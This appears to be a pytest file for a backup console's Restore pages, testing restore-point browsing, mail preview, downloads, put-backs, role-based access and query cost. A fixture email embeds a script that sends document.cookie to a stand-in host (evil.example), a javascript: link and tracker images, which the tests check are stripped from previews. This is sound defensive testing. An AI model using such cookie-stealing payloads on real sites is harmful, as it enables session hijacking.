"""The console's Restore pages in-process (issue 16, Restore): restore points by day, a restore
session opened through the API's explore, browsing and searching its mailboxes and drives on
the server, a message previewed as text only, downloads (``.eml``, a file, a zip) and a
put-back followed on its progress page; organization roles and ReadOnly users; what a page
costs for N and 4N rows."""

from __future__ import annotations

import io
import re
import time
import zipfile
from html import unescape
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from keepstone.proxy.worker import ProxyWorker
from keepstone.services import audit, auth
from keepstone.services.context import Context
from tests import listing_rows as bulk
from tests.conftest import READER_PASSWORD, Api
from tests.local_org import Organization, backup_proxy
from tests.rbac_world import OPERATOR_PASSWORD, backed_up, give_role, operator, world
from tests.test_console import console_login
from tests.work import catalog_work

__all__ = ["backup_proxy"]
FOLDER = re.compile(r'folder=([0-9a-f-]+)">Inbox<')
OWNER = re.compile(r'href="(/restore/sessions/[^"?]+/owners/[^"?]+)\?kind=(\w+)">(\w+)<')
ITEM = re.compile(r'href="(/restore/sessions/[^"]+/items/[0-9a-f-]+)">([^<]*)<')
CHECKBOX = re.compile(r'name="ids" value="([0-9a-f-]+)"[^>]*aria-label="Select ([^"]*)"')
HTML_MAIL = (
    b"From: Mallory <mallory@example.test>\r\nTo: alice@example.test\r\n"
    b"Subject: Invoice with pictures\r\nDate: Wed, 10 Jun 2026 08:00:00 +0000\r\n"
    b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><head><style>p{color:red}</style><script>alert('head')</script></head><body>"
    b'<p>Pay &amp; smile</p><img src="http://tracker.example/pixel.gif">'
    b"<script>document.location='http://evil.example/'+document.cookie</script>"
    b'<a href="javascript:steal()">click here</a></body></html>\r\n'
)
DEADLINE = 120.0


def _mail(root: Path, user: str, name: str, data: bytes) -> bytes:
    folder = root / user / "Mail" / "cur"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}:2,S").write_bytes(data)
    return data


def _open(client: TestClient, csrf: str, point: str, kind: str = "mail") -> str:
    opened = client.post(
        "/restore/explore",
        data={"csrf": csrf, "point": point, "kind": kind},
        follow_redirects=False,
    )
    assert opened.status_code == 303, opened.text
    return str(opened.headers["location"])


def _owners(client: TestClient, location: str) -> dict[str, str]:
    return {name: path for path, _kind, name in OWNER.findall(client.get(location).text)}


def _finished(client: TestClient, progress: str) -> str:
    """The progress page once the put-back it follows has ended (polled, as the page does)."""
    deadline = time.monotonic() + DEADLINE
    while time.monotonic() < deadline:
        text = client.get(progress).text
        if 'id="restore-state">Done' in text or 'id="restore-state">Failed' in text:
            return text
        time.sleep(0.05)
    raise AssertionError(f"the restore did not end within {DEADLINE} s")


def test_a_point_is_opened_and_its_mailboxes_and_drives_browsed(
    client: TestClient,
    api: Api,
    backup_proxy: ProxyWorker,
    tmp_path: Path,
    repo: dict[str, Any],
) -> None:
    org = backed_up(api, backup_proxy, tmp_path / "acme", "acme", ["alice", "bob"], repo)
    csrf = console_login(client)
    points = client.get(f"/restore?organization={org.id}")
    assert points.status_code == 200 and f'value="{org.point}"' in points.text
    assert "<h2" in points.text and "acme backup" in points.text  # by day, the job by name
    assert f'value="{org.point}"' not in client.get("/restore?before=2000-01-01").text
    assert client.get("/restore?before=someday").status_code == 400
    refused = client.post("/restore/explore", data={"point": org.point, "kind": "mail"})
    assert refused.status_code == 403
    sessions = len(api.rows("/v8/RestoreSessions"))
    location = _open(client, csrf, org.point)
    assert len(api.rows("/v8/RestoreSessions")) == sessions + 1  # the API's explore, seen there
    owners = _owners(client, location)
    assert set(owners) == {"alice", "bob"}
    alice = client.get(f"{owners['alice']}?kind=mail").text
    (inbox,) = FOLDER.findall(alice)
    assert "secret report" not in alice  # the top holds the folders; the message is in Inbox
    messages = client.get(f"{owners['alice']}?kind=mail&folder={inbox}").text
    assert "alice&#39;s secret report" in messages and "bob" not in messages.split("<main")[-1]
    found = client.get(f"{owners['alice']}?kind=mail&q=SECRET").text
    assert "alice&#39;s secret report" in found and "Found (1)" in found
    assert "Found (0)" in client.get(f"{owners['alice']}?kind=mail&q=nothing").text
    assert "notes.md" in client.get(f"{owners['alice']}?kind=file&q=NOTES").text
    assert "notes.md" in client.get(f"{owners['alice']}?kind=file").text
    missing = client.get(f"{owners['alice']}?kind=mail&folder=nowhere")
    assert missing.status_code == 404 and "does not exist" in missing.text
    assert client.get(f"{owners['alice']}?kind=calendar").status_code == 400
    assert client.get("/restore/sessions/unknown?kind=mail").status_code == 404
    bad = client.post("/restore/explore", data={"csrf": csrf, "point": "nope", "kind": "mail"})
    assert bad.status_code == 404


def test_preview_download_zip_and_restore_to_another_folder(
    client: TestClient,
    api: Api,
    ctx: Context,
    backup_proxy: ProxyWorker,
    tmp_path: Path,
    repo: dict[str, Any],
) -> None:
    root = tmp_path / "acme"
    html = _mail(root, "alice", "1790000001.M91P1.host", HTML_MAIL)
    plain = _mail(
        root,
        "alice",
        "1790000002.M92P1.host",
        b"From: bob@example.test\r\nTo: alice@example.test\r\nSubject: Code review\r\n\r\n"
        b"Look: <script>alert(1)</script> and <img src=http://tracker.example/x.gif>\r\n",
    )
    org = backed_up(api, backup_proxy, root, "acme", ["alice", "bob"], repo)
    csrf = console_login(client)
    owners = _owners(client, _open(client, csrf, org.point))
    inbox = FOLDER.findall(client.get(f"{owners['alice']}?kind=mail").text)[0]
    listed = client.get(f"{owners['alice']}?kind=mail&folder={inbox}").text
    links = {unescape(subject): href for href, subject in ITEM.findall(listed)}
    ids = {unescape(subject): item for item, subject in CHECKBOX.findall(listed)}
    assert (
        set(links) == set(ids) == {"Invoice with pictures", "Code review", "alice's secret report"}
    )

    # The HTML mail: its text only; no tag, remote address or script of it reaches the page.
    shown = client.get(links["Invoice with pictures"])
    assert shown.status_code == 200
    policy = shown.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "img-src 'self' data:" in policy
    body = shown.text.split('id="message-text">')[1].split("</pre>")[0]
    assert "Pay &amp; smile" in body and "click here" in body
    for never in ("tracker.example", "evil.example", "alert(", "<script", "<img", "javascript:"):
        assert never not in shown.text.split("<main")[1]
    assert "Mallory" in shown.text and "is HTML" in shown.text
    # A plain-text mail that talks about markup: shown, escaped, never as markup.
    code = client.get(links["Code review"]).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in code and "<script>alert" not in code
    assert "&lt;img src=http://tracker.example/x.gif&gt;" in code and "<img" not in code

    previews = [e for e in audit.events(ctx, limit=20) if e.action == "Preview"]
    assert [(e.user_name, e.subject, e.organization_id) for e in previews] == 2 * [
        ("admin", "alice", org.id)
    ]

    # Downloads: POSTs with the token, audited and in the session's events as the API's saves.
    save = f"{links['Code review']}/save"
    assert client.post(save).status_code == 403
    eml = client.post(save, data={"csrf": csrf})
    assert eml.status_code == 200 and eml.content == plain
    assert eml.headers["content-disposition"] == "attachment; filename*=UTF-8''Code%20review.eml"
    drive = client.get(f"{owners['alice']}?kind=file").text
    ((notes, _),) = [(i, s) for i, s in CHECKBOX.findall(drive) if s == "notes.md"]
    file = client.post(f"{owners['alice']}/items/{notes}/save", data={"csrf": csrf})
    assert file.content == b"alice notes\n"
    picked = {"csrf": csrf, "ids": [ids["Invoice with pictures"], ids["Code review"]]}
    zipped = client.post(f"{owners['alice']}/zip", data=picked)
    assert zipped.status_code == 200 and zipped.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(zipped.content)) as archive:
        contents = {name.rsplit("/", 1)[-1]: archive.read(name) for name in archive.namelist()}
    assert contents == {"Invoice with pictures.eml": html, "Code review.eml": plain}
    assert client.post(f"{owners['alice']}/zip", data={"csrf": csrf}).status_code == 400
    saves = [e for e in audit.events(ctx, limit=20) if e.action == "Save"]
    assert [e.details["items"] for e in saves[:3]] == [2, 1, 1]
    assert {e.user_name for e in saves} == {"admin"} and saves[0].organization_id == org.id

    # A put-back of one message to another folder, with a collision policy, then its progress.
    form = {
        "csrf": csrf,
        "kind": "mail",
        "ids": [ids["Code review"]],
        "to": "elsewhere",
        "user": "",
        "folder": "Restored",
        "collision": "skip",
    }
    assert client.post(f"{owners['alice']}/restore", data=form | {"csrf": ""}).status_code == 403
    nowhere = form | {"folder": ""}
    assert client.post(f"{owners['alice']}/restore", data=nowhere).status_code == 400
    wrong = form | {"collision": "shred"}
    assert client.post(f"{owners['alice']}/restore", data=wrong).status_code == 400
    started = client.post(f"{owners['alice']}/restore", data=form, follow_redirects=False)
    assert started.status_code == 303, started.text
    progress = _finished(client, started.headers["location"])
    assert "Restored 1 items (0 skipped, 0 failed)" in progress
    assert "hx-get" not in progress  # the page stops polling once the restore has ended
    written = {
        path: data
        for path, data in Organization(root).contents().items()
        if "Restored" in path and path.startswith("alice/Mail")
    }
    assert list(written.values()) == [plain]
    again = client.post(f"{owners['alice']}/restore", data=form, follow_redirects=False)
    assert "Restored 0 items (1 skipped, 0 failed)" in _finished(client, again.headers["location"])
    restored = [e for e in audit.events(ctx, limit=20) if e.action == "Restore"]
    assert len(restored) == 2 and restored[0].details["to"] == "alice/Restored"
    other = client.get(f"{started.headers['location'].split('?')[0]}?task=999999")
    assert other.status_code == 404


def test_a_restore_operator_sees_its_organization_and_a_reader_cannot_restore(
    client: TestClient,
    api: Api,
    ctx: Context,
    backup_proxy: ProxyWorker,
    tmp_path: Path,
    repo: dict[str, Any],
) -> None:
    orgs = world(api, backup_proxy, tmp_path, repo)
    operator(client, ctx)
    give_role(api, orgs.acme, ["operator"], selected=["alice"])
    csrf = console_login(client, "operator", OPERATOR_PASSWORD)
    assert client.get("/", follow_redirects=False).headers["location"] == "/restore"
    points = client.get("/restore").text
    assert f'value="{orgs.acme.point}"' in points and orgs.globex.point not in points
    assert 'href="/jobs"' not in points  # the console of a restore operator: Restore only
    assert client.get("/jobs").status_code == 403
    assert client.get("/sessions").status_code == 403
    # globex: its point, its session, its mailboxes are not there for this operator
    foreign = {"csrf": csrf, "point": orgs.globex.point, "kind": "mail"}
    assert client.post("/restore/explore", data=foreign).status_code == 404
    globex = f"/restore/sessions/{orgs.globex.session}"
    assert client.get(globex).status_code == 404
    assert client.get(f"{globex}/owners/{orgs.globex.owners['carol']}").status_code == 404
    assert client.get(f"{globex}/progress").status_code == 404
    # acme: only alice, in the role's scope; bob is not listed and not reachable
    location = _open(client, csrf, orgs.acme.point)
    owners = _owners(client, location)
    assert set(owners) == {"alice"}
    base = location.split("?")[0]
    assert client.get(f"{base}/owners/{orgs.acme.owners['bob']}?kind=mail").status_code == 404
    bob_zip = {"csrf": csrf, "ids": "x"}
    assert (
        client.post(f"{base}/owners/{orgs.acme.owners['bob']}/zip", data=bob_zip).status_code == 404
    )
    found = client.get(f"{owners['alice']}?kind=mail&q=secret").text
    assert "alice&#39;s secret report" in found
    requests = [e for e in audit.events(ctx, limit=30) if e.action == "OperatorRequest"]
    assert {e.user_name for e in requests} == {"operator"} and len(requests) >= 8
    assert any(e.outcome == "Failure" for e in requests) is False  # refusals are by resource
    # a ReadOnly user reads the restore points but cannot open, save or restore
    auth.add_user(ctx, "reader", READER_PASSWORD, auth.Role.READ_ONLY)
    csrf = console_login(client, "reader", READER_PASSWORD)
    listed = client.get("/restore").text
    assert "acme backup" in listed and "globex backup" in listed
    assert "/restore/explore" not in listed
    mine = {"csrf": csrf, "point": orgs.acme.point, "kind": "mail"}
    assert client.post("/restore/explore", data=mine).status_code == 403
    session = f"/restore/sessions/{orgs.acme.session}"
    mailbox = client.get(f"{session}/owners/{orgs.acme.owners['alice']}?kind=mail")
    assert mailbox.status_code == 200 and 'id="restore-button"' not in mailbox.text
    refused = client.post(
        f"{session}/owners/{orgs.acme.owners['alice']}/restore", data={"csrf": csrf}
    )
    assert refused.status_code == 403


def test_restore_pages_cost_the_same_for_n_and_4n_rows(
    client: TestClient, api: Api, ctx: Context, repo: dict[str, Any], tmp_path: Path
) -> None:
    """The restore points page and a progress page read one page of rows, never the whole
    set: the same statements and rows for N and 4N restore points and events."""
    org = backed_up(api, None, tmp_path / "acme", "acme", ["alice"], repo)
    console_login(client)
    n = 60
    bulk.add_points(ctx, repo["id"], org.id, [org.job["id"]], n)
    point_id = api.rows(f"/v8/RestorePoints?organizationId={org.id}")[0]["id"]
    (session_id,) = bulk.add_restore_sessions(ctx, point_id, org.id, 1)
    bulk.add_events(ctx, session_id, n)
    paths = [
        "/restore",
        f"/restore?organization={org.id}",
        f"/restore/sessions/{session_id}/progress",
    ]
    for path in paths:
        client.get(path)  # warm: the logon session's use is recorded at most once a second

    def work(path: str) -> tuple[int, int]:
        with catalog_work(ctx) as counted:
            assert client.get(path).status_code == 200
        return counted.count, counted.rows_loaded

    small = [work(path) for path in paths]
    bulk.add_points(ctx, repo["id"], org.id, [org.job["id"]], 3 * n)
    bulk.add_events(ctx, session_id, 3 * n, first_seq=n + 1)
    large = [work(path) for path in paths]
    assert small == large
    assert all(rows <= 2 * 26 + 10 for _count, rows in small)
